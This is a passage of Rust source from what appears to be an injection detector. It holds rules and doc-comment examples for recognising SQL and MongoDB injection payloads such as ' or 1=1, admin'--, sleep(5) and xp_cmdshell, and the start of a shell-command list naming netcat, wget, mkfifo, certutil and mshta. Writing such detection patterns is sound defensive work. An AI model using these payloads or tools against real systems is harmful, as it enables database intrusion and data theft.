            j = t.skip_ws(t.word_end(j + 2));
            while t.word_is(t.next_word(j), &["exists", "not"]) {
                j = t.next_word(j).map_or(j, |(_, x)| x);
            }
        }
        let (j, _) = t.skip_code_space(j);
        let mut k = j;
        while t.is_word(k) || matches!(t.at(k), b'.' | b'`' | b'"' | b'[' | b']') {
            k += 1;
        }
        if k == j {
            return false;
        }
        let m = t.skip_ws(k);
        matches!(t.at(m), 0 | b';' | b'(' | b'#') || t.starts_ci(m, b"--") || t.starts_ci(m, b"/*")
    }

    /// A quote closes the application's string and a boolean operator continues the query:
    /// `' or 1=1`, `" or "a"="a`, `' and sleep(5)`, `x' or 'x' <`, `'or(id glob 1)--`.
    fn quote_break(s: &Scan) -> bool {
        let t = s.t;
        if !s.has_any(b"'\"`") {
            return false;
        }
        memchr::memchr3_iter(b'\'', b'"', b'`', t.0).any(|i| {
            let j = t.skip_ws(i + 1);
            let op_end = if t.starts_ci(j, b"||") || t.starts_ci(j, b"&&") {
                j + 2
            } else {
                let e = t.word_end(j);
                if !in_list(
                    &[
                        "or", "and", "xor", "div", "mod", "like", "rlike", "regexp", "glob",
                        "having", "collate", "sounds",
                    ],
                    t.slice(j, e),
                ) {
                    return false;
                }
                e
            };
            operand_then_operator(t, op_end)
        })
    }

    /// After a boolean operator: an operand (number, quoted string, identifier, call) followed
    /// by a comparison or a comment.
    fn operand_then_operator(t: Text, i: usize) -> bool {
        let (mut j, _) = t.skip_code_space(i);
        while t.at(j) == b'(' {
            j = t.skip_ws(j + 1);
        }
        let c = t.at(j);
        let end = if matches!(c, b'\'' | b'"' | b'`') {
            match mchr(c, t.slice(j + 1, j + 1 + 128)) {
                Some(q) => j + q + 2,
                None => return false,
            }
        } else if c == b'@' {
            return true;
        } else if is_word(c) {
            let e = t.word_end(j);
            // A call as operand: `or sleep(5)`, `and starts_with(password)` (prose has a space).
            let paren = t.skip_code_space(e).0;
            let v = trim_ascii(t.0);
            let tight = t.at(e) == b'('
                || (t.at(paren) == b'(' && (v.ends_with(b"--") || v.ends_with(b";")));
            if tight && e - j >= 3 && !t.slice(j, e).iter().all(u8::is_ascii_digit) {
                return true;
            }
            e
        } else {
            return false;
        };
        let operand = t.slice(j, end);
        let literal = matches!(c, b'\'' | b'"')
            || operand.iter().all(u8::is_ascii_digit)
            || in_list(&["true", "false", "null"], operand);
        let (k, _) = t.skip_code_space(end);
        let (n, n2) = (t.at(k), t.at(k + 1));
        let symbolic_op = matches!(t.before(t.skip_back_ws(j)), b'|' | b'&');
        if symbolic_op && literal && n == 0 {
            return true;
        }
        match n {
            b'=' | b'<' | b'>' => true,
            b'!' => matches!(n2, b'=' | b'<' | b'>'),
            b'-' if n2 == b'-' => trailing_comment(t, k + 2),
            b'-' => n2 == 0 || n2.is_ascii_whitespace(),
            b'#' => trailing_comment(t, k + 1),
            b'/' => n2 == b'*',
            b';' => literal,
            b'^' | b'%' | b'*' | b'|' | b'&' => !n2.is_ascii_alphabetic() || literal,
            _ => {
                let w = t.slice(k, t.word_end(k));
                let in_list_op = in_list(&["in"], w) && t.at(t.skip_ws(k + 2)) == b'(';
                // `like '%admin%'`: a wildcard pattern.
                let q = t.skip_ws(k + w.len());
                let wildcard = in_list(&["like", "ilike", "rlike"], w)
                    && matches!(t.at(q), b'\'' | b'"')
                    && t.slice(q + 1, q + 16)
                        .iter()
                        .take_while(|c| **c != t.at(q))
                        .any(|c| *c == b'%');
                if wildcard {
                    return true;
                }
                (in_list_op
                    || in_list(
                        &[
                            "like", "rlike", "regexp", "glob", "between", "is", "sounds", "ilike",
                            "similar", "notnull", "isnull",
                        ],
                        w,
                    ))
                    && (literal || s_has_sql_comment(t) || trim_ascii(t.0).ends_with(b";"))
            }
        }
    }

    /// A comment that ends the injected query: little or nothing after it (`-- -`, `#`),
    /// unlike a prose dash ("… -- in the docs").
    fn trailing_comment(t: Text, i: usize) -> bool {
        let rest = t.slice(i, i + 64);
        t.len().saturating_sub(i) <= 64
            && rest
                .split(u8::is_ascii_whitespace)
                .filter(|w| w.iter().any(u8::is_ascii_alphabetic))
                .count()
                <= 1
    }

    /// The last `--`/`#` in `w` is followed by at most one word: a comment ending the query.
    fn ends_with_comment(w: Text) -> bool {
        let dash = (0..w.len())
            .rev()
            .find(|&i| w.starts_ci(i, b"--"))
            .map(|i| i + 2);
        let hash = w.0.iter().rposition(|c| *c == b'#').map(|i| i + 1);
        dash.max(hash).is_some_and(|i| trailing_comment(w, i))
    }

    fn s_has_sql_comment(t: Text) -> bool {
        find(t.0, b"--", 0).is_some() || t.0.contains(&b'#') || find(t.0, b"/*", 0).is_some()
    }

    /// A quote glued to a word followed directly by a comment (`admin'--`, `admin'#`, `x'/*`),
    /// a `';--`, or a trailing `';` on an email-like single token (`admin@site';`).
    fn quote_comment(s: &Scan) -> bool {
        let t = s.t;
        if !s.has_any(b"'\"`") || !s.has_any(b"-#/;") {
            return false;
        }
        let single_token = !t.0.iter().any(u8::is_ascii_whitespace);
        memchr::memchr3_iter(b'\'', b'"', b'`', t.0).any(|i| {
            let glued = is_word(t.before(i)) || matches!(t.before(i), b')' | b'\\');
            let (n, n2) = (t.at(i + 1), t.at(i + 2));
            let comment =
                (n == b'-' && n2 == b'-' && matches!(t.at(i + 3), 0 | b' ' | b'\t' | b'\n' | b'-'))
                    || (n == b'#' && matches!(n2, 0 | b' ' | b'\t' | b'\n' | b'#'))
                    || (n == b'/' && n2 == b'*');
            let j = t.skip_ws(i + 1);
            let k = t.skip_ws(j + 1);
            let semi_comment = t.at(j) == b';'
                && (t.starts_ci(k, b"--") || t.at(k) == b'#' || t.starts_ci(k, b"/*"));
            let email_semi =
                t.at(j) == b';' && t.at(k) == 0 && glued && single_token && s.has(b'@');
            (glued && comment) || semi_comment || email_semi
        })
    }

    /// Unquoted tautology: `1 or 1=1`, `x and 2>1`, `|| 'a'='a'`, `OR 1#`, and a value
    /// opening with a boolean operator and a comparison (`OR '{"a":1}' <@ …`).
    fn tautology(s: &Scan) -> bool {
        let t = s.t;
        // Every success compares: with `=`, `<`, `>`, or a number before `#` (`OR 1#`).
        // (Without any operator word nothing below succeeds either.)
        if !s.has_any(b"=<>")
            && !memchr::memchr_iter(b'#', t.0).any(|h| t.before(t.skip_back_ws(h)).is_ascii_digit())
        {
            return false;
        }
        ["or", "and", "xor", "||", "&&"].iter().any(|op| {
            let wordy = op.as_bytes().first().copied().is_some_and(is_word);
            s.each_trigger(op, wordy, |p, e| {
                let opens = t.skip_ws(0) == p || t.before(t.skip_back_ws(p)) == b'=';
                compares_equal_operands(t, e) || (opens && operand_then_comparison(t, e))
            })
        })
    }

    /// An operand (word, quoted string, `(`) then a comparison operator (`=`, `!=`, `<`, `>`).
    fn operand_then_comparison(t: Text, i: usize) -> bool {
        let mut j = t.skip_ws(i);
        let mut parens = false;
        while t.at(j) == b'(' {
            parens = true;
            j = t.skip_ws(j + 1);
        }
        let (a0, a1) = operand(t, j);
        let k = t.skip_ws(a1);
        let cmp = matches!(t.at(k), b'=' | b'<' | b'>') || (t.at(k) == b'!' && t.at(k + 1) == b'=');
        (a1 > a0 || parens) && cmp
    }

    /// `1=1`, `2>1`, `'a'='a'`, `x=x` right after a boolean operator, or `1#`.
    fn compares_equal_operands(t: Text, i: usize) -> bool {
        let (a0, a1) = operand(t, t.skip_ws(i));
        if a1 == a0 {
            return false;
        }
        let k = t.skip_ws(a1);
        let lhs = t.slice(a0, a1);
        if t.at(k) == b'#'
            && lhs.iter().all(u8::is_ascii_digit)
            && matches!(t.at(k + 1), 0 | b' ' | b'\n')
        {
            return true;
        }
        let cmp_len = [&b"<=>"[..], b"!=", b"<>", b">=", b"<=", b"=", b"<", b">"]
            .iter()
            .find(|c| t.starts_ci(k, c))
            .map_or(0, |c| c.len());
        if cmp_len == 0 {
            return false;
        }
        let (b0, b1) = operand(t, t.skip_ws(k + cmp_len));
        let rhs = t.slice(b0, b1);
        let numeric = |x: &[u8]| !x.is_empty() && x.iter().all(u8::is_ascii_digit);
        (numeric(lhs) && numeric(rhs))
            || (!rhs.is_empty() && lhs.eq_ignore_ascii_case(rhs) && lhs.len() <= 16)
    }

    /// A word or a quoted string starting at `i`, as a range (empty when neither).
    fn operand(t: Text, i: usize) -> (usize, usize) {
        let c = t.at(i);
        if matches!(c, b'\'' | b'"') {
            let close = mchr(c, t.slice(i + 1, i + 65)).map_or(i, |q| i + q + 2);
            return (i, close);
        }
        (i, t.word_end(i))
    }

    /// Time-based probes: `sleep(5)` with a numeric / nested argument.
    fn sleep_call(s: &Scan) -> bool {
        let t = s.t;
        s.word(SLEEP)
            && s.has(b'(')
            && s.each_word("sleep", |_, e| {
                let (j, _) = t.skip_code_space(e);
                let (k, _) = t.skip_code_space(j + 1);
                t.at(j) == b'(' && (t.at(k).is_ascii_digit() || matches!(t.at(k), b'(' | b'@'))
            })
    }

    /// `waitfor delay '0:0:5'` / `waitfor time`.
    fn waitfor_delay(s: &Scan) -> bool {
        let t = s.t;
        s.word(WAITFOR)
            && s.each_word("waitfor", |_, e| {
                t.word_is(t.next_word(e), &["delay", "time"])
            })
    }

    /// `select *`, `select null,…`, `select 1,2,3`, `select char(…)`, `select @@…`,
    /// `select(…)`, and `select a,b from t where …` with SQL punctuation.
    fn select_projection(s: &Scan) -> bool {
        let t = s.t;
        s.word(SELECT)
            && s.each_word("select", |_, e| {
                let (j, _) = t.skip_code_space(e);
                match t.at(j) {
                    b'*' | b'@' => true,
                    b'(' => {
                        let (k, _) = t.skip_code_space(j + 1);
                        t.word_is(
                            t.next_word(k),
                            &[
                                "select",
                                "case",
                                "sleep",
                                "char",
                                "chr",
                                "count",
                                "if",
                                "user",
                                "version",
                                "database",
                                "concat",
                                "ascii",
                                "substring",
                                "sleep",
                            ],
                        ) || t.at(k).is_ascii_digit()
                    }
                    b'0'..=b'9' => {
                        let (k, _) = t.skip_code_space(t.word_end(j));
                        matches!(t.at(k), 0 | b',' | b'+' | b'*' | b';')
                            || t.word_is(t.next_word(k), &["from", "union", "where", "into"])
                    }
                    _ => select_function(t, j) || select_from_where(t, e),
                }
            })
    }

    fn select_function(t: Text, j: usize) -> bool {
        let n = t.next_word(j);
        let sql_fn = [
            "null",
            "char",
            "chr",
            "concat",
            "group_concat",
            "load_file",
            "pg_sleep",
            "sleep",
            "benchmark",
            "version",
            "user",
            "database",
            "ascii",
            "substring",
            "count",
            "current_user",
            "if",
        ];
        t.word_is(n, &sql_fn) && {
            let (k, _) = t.skip_code_space(n.map_or(j, |(_, x)| x));
            matches!(t.at(k), b'(' | b',' | b';' | 0)
        }
    }

    /// `select a, b from t where/limit …`: punctuation in the column list and a SQL clause.
    fn select_from_where(t: Text, e: usize) -> bool {
        let window = Text(t.slice(e, e + 160));
        find_ci(window.0, b" from ", 0).is_some_and(|f| {
            let cols = window.slice(0, f);
            let after = Text(window.slice(f + 6, window.len()));
            let punct = cols.iter().any(|c| matches!(c, b',' | b'`' | b'(' | b'*'));
            let clause = after.contains_ci(b" where ")
                || after.contains_ci(b" limit ")
                || after.contains_ci(b"--")
                || after.0.contains(&b';')
                || after.0.contains(&b'`');
            punct && clause
        })
    }

    /// `' order by 3--`, `1 order by 10#` column-count probes; `group by … having count(…)`.
    fn order_by_probe(s: &Scan) -> bool {
        let t = s.t;
        let order = s.word(ORDER)
            && s.each_word("order", |st, e| {
                let by = t.next_word(e);
                let before = t.before(t.skip_back_ws(st));
                let by_end = by.map_or(e, |(_, x)| x);
                let (j, _) = t.skip_code_space(by_end);
                let d = t.word_end(j);
                t.word_is(by, &["by"])
                    && matches!(before, b'\'' | b'"' | b')' | b'`' | b'0'..=b'9')
                    && (d > j && t.slice(j, d).iter().all(u8::is_ascii_digit)
                        || t.word_is(t.next_word(by_end), &["if", "case", "sleep"]))
            });
        order
            || s.word(HAVING)
                && s.each_word("having", |_, e| {
                    let n = t.next_word(e);
                    let (k, _) = t.skip_code_space(n.map_or(e, |(_, x)| x));
                    t.word_is(n, &["count", "sum", "min", "max", "avg"]) && t.at(k) == b'('
                })
    }

    /// PostgreSQL casts used for error-based extraction: `::int`, `::text`, `::jsonb`.
    fn postgres_cast(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && find_all(t.0, b"::").any(|p| {
                let e = t.word_end(p + 2);
                in_list(
                    &[
                        "int", "integer", "text", "bool", "boolean", "json", "jsonb", "varchar",
                        "regclass", "bigint", "numeric", "bytea", "xml",
                    ],
                    t.slice(p + 2, e),
                )
            })
    }

    /// PostgreSQL JSON operators between quoted operands: `'{…}' <@ '{…}'`, `' ?| array[`.
    fn json_operator(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'\'')
            && s.has_any(b"@?#>")
            && [&b"<@"[..], b"@>", b"?|", b"?&", b"#>", b"#-", b"->>", b"@@"]
                .iter()
                .any(|op| {
                    op.iter().all(|&c| s.has(c))
                        && find_all(t.0, op).any(|p| {
                            let before = t.before(t.skip_back_ws(p));
                            let after = t.at(t.skip_ws(p + op.len()));
                            before == b'\'' && matches!(after, b'\'' | b'$' | b'a' | b'A')
                        })
                })
    }

    /// T-SQL: `declare @x`, `exec(@q)`, `exec master..xp_`, `set @a=`.
    fn mssql(s: &Scan) -> bool {
        let t = s.t;
        s.word(DECLARE | EXEC)
            && s.has_any(b"@(.")
            && (s.each_word("declare", |_, e| t.at(t.skip_code_space(e).0) == b'@')
                || s.each_word("exec", |_, e| {
                    let (j, _) = t.skip_code_space(e);
                    t.at(j) == b'@'
                        || (t.at(j) == b'(' && t.at(t.skip_ws(j + 1)) == b'@')
                        || t.word_is(t.next_word(e), &["master", "xp_cmdshell", "sp_executesql"])
                }))
    }

    /// Two quoted literals compared: `'x'!='y`, `'1'='1`, `"a"<>"b"`.
    fn quoted_comparison(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b"'\"")
            && s.has_any(b"=<>")
            && memchr::memchr2_iter(b'\'', b'"', t.0).any(|i| {
                let q = t.at(i);
                let body = t.slice(i + 1, i + 34);
                let Some(close) = mchr(q, body) else {
                    return false;
                };
                let k = t.skip_ws(i + 1 + close + 1);
                let op_len = [&b"!="[..], b"<>", b"<=", b">=", b"=", b"<", b">"]
                    .iter()
                    .find(|o| t.starts_ci(k, o))
                    .map_or(0, |o| o.len());
                let lit = body.get(..close).unwrap_or_default();
                op_len > 0
                    && lit.iter().all(|c| is_word(*c))
                    && matches!(t.at(t.skip_ws(k + op_len)), b'\'' | b'"')
            })
    }

    /// A quote glued to a word, SQL between it and a comment that ends the value:
    /// `x'|email--`, `id'not like id--`, `'sounds like rowid--`, `a'or?--`.
    fn quote_trailing_comment(s: &Scan) -> bool {
        let t = s.t;
        let v = trim_ascii(t.0);
        let core = {
            let mut e = v.len();
            while e > 0 && matches!(v.get(e - 1), Some(b'-' | b' ')) {
                e -= 1;
            }
            v.get(..e).unwrap_or_default()
        };
        let ends_comment = v.ends_with(b"--") || v.ends_with(b"-- -") || v.ends_with(b"#");
        ends_comment && s.has_any(b"'\"`") && v.len() <= 256 && {
            let q = core.iter().position(|c| matches!(c, b'\'' | b'"' | b'`'));
            q.is_some_and(|q| {
                let between = Text(core.get(q + 1..).unwrap_or_default());
                let op = between.0.iter().any(|c| {
                    matches!(
                        c,
                        b'|' | b'^'
                            | b'&'
                            | b'<'
                            | b'>'
                            | b'='
                            | b'%'
                            | b'/'
                            | b'*'
                            | b'+'
                            | b'-'
                            | b'!'
                            | b'?'
                            | b'('
                    )
                });
                let word = [
                    "or", "and", "not", "like", "is", "glob", "mod", "div", "regexp", "sounds",
                    "xor", "collate", "notnull", "isnull", "escape",
                ]
                .iter()
                .any(|w| {
                    let w = w.as_bytes();
                    let mut from = 0;
                    while let Some(p) = find_ci(between.0, w, from) {
                        from = p + 1;
                        if between.word_start(p) && !between.is_word(p + w.len()) {
                            return true;
                        }
                    }
                    false
                });
                (q == 0 || is_word(core.get(q - 1).copied().unwrap_or(0))) && (op || word)
            })
        }
    }

    /// `) AS alias FROM`, `` ` AS `alias` from ``: the tail of a projection broken into.
    fn alias_from(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b")`'\"")
            && find_ci(t.0, b"from", 0).is_some()
            // Only a space before `as` can succeed below.
            && find_all_ci(t.0, b" as").any(|sp| {
                let i = sp + 1;
                let before = t.before(t.skip_back_ws(sp + 1));
                if !t.starts_ci(i, b"as")
                    || t.is_word(i + 2)
                    || !(matches!(before, b')' | b'`' | b'\'' | b'"') || before.is_ascii_digit())
                {
                    return false;
                }
                let j = t.skip_ws(i + 2);
                let quoted = matches!(t.at(j), b'`' | b'\'' | b'"');
                if before.is_ascii_digit() && !quoted {
                    return false;
                }
                let e = if quoted {
                    mchr(t.at(j), t.slice(j + 1, j + 64)).map_or(j, |c| j + c + 2)
                } else {
                    t.word_end(j)
                };
                let f = t.skip_ws(e);
                e > j
                    && t.starts_ci(f, b"from")
                    && !t.is_word(f + 4)
                    && (quoted || t.skip_ws(f + 4) >= t.len())
            })
    }

    /// A value that is the middle of a query: `FROM t WHERE a="b";`, ``from `db`.`t` limit``.
    fn from_clause(s: &Scan) -> bool {
        let t = s.t;
        let start = t.skip_ws(0);
        s.has_any(b"`=") && t.starts_ci(start, b"from") && !t.is_word(start + 4) && {
            let rest = Text(t.slice(start + 4, start + 200));
            rest.contains_ci(b" where ")
                || rest.contains_ci(b" limit")
                || rest.contains_ci(b" group by ")
                || rest.contains_ci(b" order by ")
        }
    }

    /// A value that is only a comparison of numbers: `1=1`, `11!=1`, `42<=>42`, `1 is not 2`.
    fn bare_comparison(s: &Scan) -> bool {
        let v = Text(trim_ascii(s.t.0));
        s.has_any(b"=!<>lLiI") && v.len() <= 24 && v.at(0).is_ascii_digit() && {
            let a = v.word_end(0);
            let k = v.skip_ws(a);
            let op = [&b"<=>"[..], b"!=", b"<>", b"=", b"like", b"is not", b"is"]
                .iter()
                .find(|o| v.starts_ci(k, o))
                .map_or(0, |o| o.len());
            let j = v.skip_ws(k + op);
            let b = v.word_end(j);
            let (lhs, rhs) = (v.slice(0, a), v.slice(j, b));
            let negated = matches!(op, 2 | 6) && !v.starts_ci(k, b"<=>");
            let numbers = lhs.iter().all(u8::is_ascii_digit)
                && b > j
                && b == v.len()
                && rhs.iter().all(u8::is_ascii_digit);
            // Only tautologies: equal operands for `=`/`like`/`is`, different ones for `!=`/`is not`.
            numbers && ((lhs == rhs) != negated)
        }
    }

    /// SQL built-in functions (MySQL/PostgreSQL/MSSQL/SQLite) for [`function_fragment`].
    #[rustfmt::skip]
    const SQL_FUNCTIONS: &[&str] = &[
        "abs", "acos", "adddate", "addtime", "aes_decrypt", "aes_encrypt", "ascii", "asin", "atan",
        "avg", "benchmark", "bin", "bit_and", "bit_count", "bit_length", "bit_or", "bit_xor", "cast",
        "ceil", "ceiling", "char", "char_length", "character_length", "charset", "chr", "coalesce",
        "collation", "compress", "concat", "concat_ws", "connection_id", "conv", "convert", "cos",
        "cot", "count", "crc32", "curdate", "current_date", "current_time", "current_timestamp",
        "current_user", "curtime", "database", "date", "date_add", "date_format", "date_sub",
        "datediff", "day", "dayname", "dayofmonth", "dayofweek", "dayofyear", "decode", "default",
        "degrees", "elt", "encode", "encrypt", "exp", "export_set", "extractvalue", "field",
        "find_in_set", "floor", "format", "found_rows", "from_days", "from_unixtime", "get_lock",
        "greatest", "group_concat", "hex", "hour", "if", "ifnull", "iif", "in", "inet_aton",
        "inet_ntoa", "insert", "instr", "isnull", "last_insert_id", "lcase", "least", "left",
        "length", "ln", "load_file", "local", "localtime", "locate", "log", "log10", "log2",
        "lower", "lpad", "ltrim", "make_set", "max", "md5", "mid", "min", "minute", "mod",
        "month", "name_const", "now", "nullif", "oct", "ord", "password", "pg_sleep", "pi",
        "position", "pow", "power", "quarter", "quote", "rand", "repeat", "replace", "reverse",
        "right", "round", "row_count", "rpad", "rtrim", "schema", "second", "session_user", "sha",
        "sha1", "sha2", "sign", "sin", "sleep", "soundex", "space", "sqrt", "stddev", "strcmp",
        "substr", "substring", "substring_index", "sum", "sysdate", "system_user", "tan", "time",
        "timestamp", "trim", "truncate", "ucase", "uncompress", "unhex", "upper", "user", "uuid",
        "values", "version", "week", "year",
    ];

    static SQL_FUNCTION_MAP: LazyLock<WordMap> =
        LazyLock::new(|| WordMap::new(&[(SQL_FUNCTIONS, 1)]));

    /// A value that is nothing but a SQL function name opening a call (`sleep(`, `COS(`,
    /// `Rand (`, `length||(`, `IN (0,1)`): a probe fragment, never prose.
    fn function_fragment(s: &Scan) -> bool {
        let v = Text(trim_ascii(s.t.0));
        if !s.has(b'(') || v.len() > 40 {
            return false;
        }
        let e = v.word_end(0);
        if e == 0 || SQL_FUNCTION_MAP.get(v.slice(0, e)) == 0 {
            return false;
        }
        let Some(paren) = mchr(b'(', v.0) else {
            return false;
        };
        let junk = v.slice(e, paren);
        let tail = Text(v.slice(paren + 1, v.len()));
        let tail_ok = tail.0.iter().all(|c| !c.is_ascii_alphabetic())
            || (tail.0.last() == Some(&b')')
                && tail
                    .0
                    .iter()
                    .all(|c| c.is_ascii_digit() || matches!(c, b',' | b'-' | b' ' | b')')));
        junk.len() <= 6
            && junk.iter().all(|c| !c.is_ascii_alphanumeric())
            && tail_ok
            && tail.len() <= 24
    }

    /// `VALUES ('192.168.0.1', 'test')`: an INSERT value list.
    fn values_list(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'(') && s.has_any(b"'\"") && t.contains_ci(b"values") && {
            let mut from = 0;
            let mut hit = false;
            while let Some(p) = find_ci(t.0, b"values", from) {
                from = p + 6;
                let paren = t.skip_ws(p + 6);
                if t.word_start(p)
                    && t.at(paren) == b'('
                    && matches!(t.at(t.skip_ws(paren + 1)), b'\'' | b'"')
                {
                    hit = true;
                    break;
                }
            }
            hit
        }
    }

    /// A value opening with an unbalanced quote and a statement keyword: `'alter a`, `" UNION A`.
    fn open_quote_keyword(s: &Scan) -> bool {
        let t = s.t;
        let i = t.skip_ws(0);
        let q = t.at(i);
        matches!(q, b'\'' | b'"') && memchr::memchr_iter(q, t.0).count() % 2 == 1 && {
            let n = t.next_word(i + 1);
            t.word_is(
                n,
                &[
                    "union", "alter", "select", "drop", "insert", "update", "delete", "create",
                    "truncate", "exec", "declare",
                ],
            ) && n.is_some_and(|(_, e)| !matches!(t.at(e), b'\''))
        }
    }

    /// MongoDB query operators smuggled into a value or key: `[$ne]`, `{"$gt": ""}`, `$where`.
    fn mongo_operator(s: &Scan) -> bool {
        const OPS: &[&str] = &[
            "ne",
            "gt",
            "gte",
            "lt",
            "lte",
            "in",
            "nin",
            "regex",
            "where",
            "exists",
            "elemmatch",
            "expr",
            "or",
            "and",
            "not",
            "nor",
            "text",
            "type",
            "size",
            "all",
            "mod",
            "jsonschema",
        ];
        let t = s.t;
        s.has(b'$')
            && memchr::memchr_iter(b'$', t.0).any(|p| {
                let e = t.word_end(p + 1);
                let before = t.before(p);
                let placed = matches!(before, 0 | b'[' | b'{' | b'"' | b'\'' | b' ' | b',')
                    && (before != b' ' || t.skip_ws(0) == p);
                e > p + 1
                    && !t.is_word(e)
                    && t.at(e) != b'.'
                    && placed
                    && in_list(OPS, t.slice(p + 1, e))
                    && (before != 0 || e == trim_ascii(t.0).len())
            })
    }

    /// libinjection's SQL tokenizer and fingerprint list, confirmed by structure: on prose its
    /// fingerprints misfire (quoted words around "or", "Update (March 9)"), so the value must
    /// also break a quote into SQL or carry SQL operators/comments between SQL tokens.
    fn libinjection(s: &Scan) -> bool {
        // Gate: a quote plus a SQL-only word or a comment right after a quote (the tokenizer
        // costs microseconds; quote-break tautologies are judged by `quote_break`).
        if !s.has_any(b"'\"`") {
            return false;
        }
        let comment = s.has_any(b"-#/");
        let sql_word = s.word(SQL_WORD);
        let t = s.t;
        let spots = memchr::memchr3_iter(b'\'', b'"', b'`', t.0).filter(move |&i| {
            (comment && quote_then_comment(t, i)) || (sql_word && quote_in_code(t, i))
        });
        windows(t, spots, 32).any(|w| {
            // Without code characters or a trailing comment in the window no fingerprint is
            // confirmed, so the tokenizer need not run.
            (code_chars(Text(w)) || ends_with_comment(Text(w))) && {
                let r = libinjectionrs::detect_sqli(w);
                r.is_injection()
                    && confirmed_fingerprint(
                        Text(w),
                        r.fingerprint.as_ref().map_or("", |f| f.as_str()),
                    )
            }
        })
    }

    /// SQL punctuation no prose sentence needs: `=`, `<`, `>`, `@`, `;`, `/*`.
    fn code_chars(w: Text) -> bool {
        w.0.iter()
            .any(|c| matches!(c, b'=' | b'<' | b'>' | b'@' | b';'))
            || find(w.0, b"/*", 0).is_some()
    }

    fn quote_then_comment(t: Text, i: usize) -> bool {
        let j = t.skip_ws(i + 1);
        t.starts_ci(j, b"--") || t.at(j) == b'#' || t.starts_ci(j, b"/*")
    }

    /// A quote next to SQL punctuation (`='`, `')`, `' ||`, `1'`), not an apostrophe in prose.
    fn quote_in_code(t: Text, i: usize) -> bool {
        let code = |c: u8| {
            matches!(
                c,
                b'=' | b'(' | b')' | b'<' | b'>' | b';' | b'|' | b'&' | b'*' | b'@' | b'+'
            )
        };
        code(t.before(t.skip_back_ws(i)))
            || code(t.at(t.skip_ws(i + 1)))
            || t.before(i).is_ascii_digit()
    }

    /// Fingerprints of real attacks carry a SQL keyword/function/union token (`k`, `U`, `E`,
    /// `f`, `B`, `T`) or an operator right after a quote break; prose fingerprints are mostly
    /// strings and bare words (`sos`, `s&s`, `n&n`).
    fn confirmed_fingerprint(w: Text, fp: &str) -> bool {
        // Shapes libinjection reports on prose: quoted words joined by a word, "Update (…)".
        if ["sos", "sBs", "so(n)", "T(nn)"].contains(&fp) || fp.starts_with("E(") {
            return false;
        }
        let sql_token = fp
            .chars()
            .any(|c| matches!(c, 'k' | 'U' | 'E' | 'f' | 'B' | 'T' | 'A' | 't'));
        let comment = fp.ends_with('c');
        let starts_in_string = fp.starts_with('s');
        let operator = fp.contains('o') || fp.contains('&');
        let ends_in_comment = comment && ends_with_comment(w);
        ends_in_comment || (code_chars(w) && (sql_token || (starts_in_string && operator)))
    }
}

// ---------------------------------------------------------------------------------------------
// Shell / OS command injection
// ---------------------------------------------------------------------------------------------

mod shell {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("shell-command", Gate::NONE, command_positions),
        ("shell-glob-path", Gate::all(b"/").any(b"?*["), glob_path),
        ("shell-brace-expansion", Gate::all(b"{,"), brace_expansion),
        ("cmd-for-loop", Gate::all(b"%("), for_loop),
        ("cmd-if", Gate::NONE, if_statement),
        (
            "shell-function-definition",
            Gate::all(b"{()"),
            function_definition,
        ),
        (
            "shell-alias",
            Gate::all(b"=").and_words(keywords::ALIAS),
            alias_definition,
        ),
        ("shell-arithmetic", Gate::all(b"$"), arithmetic_expansion),
        (
            "shell-substitution",
            Gate::NONE.any(b"<>$").any(b"({"),
            substitution,
        ),
        ("mail-protocol-command", Gate::all(b"\r"), mail_protocol),
    ];

    /// Command classes.
    const STRONG: u8 = 1;
    const WEAK: u8 = 2;
    const PREFIX: u8 = 4;
    const PROBE: u8 = 8;

    /// Commands with no everyday English reading: one at a command position is conclusive.
    #[rustfmt::skip]
    const STRONG_CMDS: &[&str] = &[
        "whoami", "ifconfig", "ipconfig", "uname", "wget", "netcat", "ncat", "socat", "busybox",
        "pwsh", "nslookup", "netstat", "chmod", "chown", "chgrp", "useradd", "adduser",
        "usermod", "visudo", "sudo", "crontab", "nohup", "strace", "ltrace", "gdb", "xxd",
        "base64", "base32", "bzip2", "gunzip", "unxz", "zstdcat", "zcat", "bsdtar",
        "lwp-download", "lwp-request", "tftp", "telnet", "mkfifo", "iptables", "systemctl",
        "sysctl", "lsof", "dmesg", "lastlog", "lastlogin", "getent", "pkill", "killall",
        "poweroff", "apt-get", "aptitude", "dpkg", "pip3", "pipx", "kubectl", "sqlite3",
        "redis-cli", "openssl", "nmap", "tcpdump", "tasklist", "taskkill", "systeminfo",
        "icacls", "xcopy", "robocopy", "hexdump", "unzip", "htop", "traceroute", "fdisk",
        "lsblk", "umount", "printenv", "uptime", "python2", "python3", "gcc", "c89", "c99",
        "ksh", "zsh", "csh", "tcsh", "ansible", "ansible-config", "ansible-galaxy",
        "ansible-console", "ansible-doc", "ansible-inventory", "ansible-pull", "ansible-vault",
        "ansible-playbook", "chef-vault", "chef-shell", "chef-run", "chef-client", "cscli",
        "cpulimit", "uconv", "rmt", "rmt-tar", "rmt-dump", "ssh-copy-id", "jrunscript",
        "jshell", "irb", "tclsh", "xterm", "setsid", "gawk", "egrep", "xargs", "wscript",
        "cscript", "regedit", "schtasks", "iwr", "iex", "iwmi", "powershell", "certutil",
        "mshta", "bitsadmin", "rundll32", "regsvr32", "wmic", "bcdboot", "bcdedit", "vssadmin",
        "diskpart", "ssh-keygen", "passwd", "chattr", "lsattr", "aa-disable", "zstd", "perf",
    ];
    /// Commands that are also English words or names: need shell-looking arguments.
    #[rustfmt::skip]
    const WEAK_CMDS: &[&str] = &[
        "cat", "id", "find", "more", "less", "head", "tail", "set", "sort", "file", "type",
        "time", "who", "w", "echo", "sleep", "kill", "ping", "cut", "top", "free", "touch",
        "env", "which", "date", "dig", "host", "mail", "nice", "wait", "watch", "split", "join",
        "last", "rev", "tac", "tar", "zip", "ls", "ps", "rm", "cd", "cp", "mv", "ln", "df",
        "du", "ip", "nc", "sh", "ed", "vi", "vim", "ex", "tr", "wc", "nl", "od", "dd", "at",
        "su", "curl", "bash", "dash", "python", "perl", "ruby", "php", "node", "lua", "awk",
        "sed", "grep", "cmd", "net", "del", "dir", "copy", "move", "start", "call", "exec",
        "eval", "source", "export", "trap", "printf", "column", "fold", "comm", "flock",
        "bridge", "mount", "route", "arp", "screen", "tmux", "emacs", "nano", "pico", "strings",
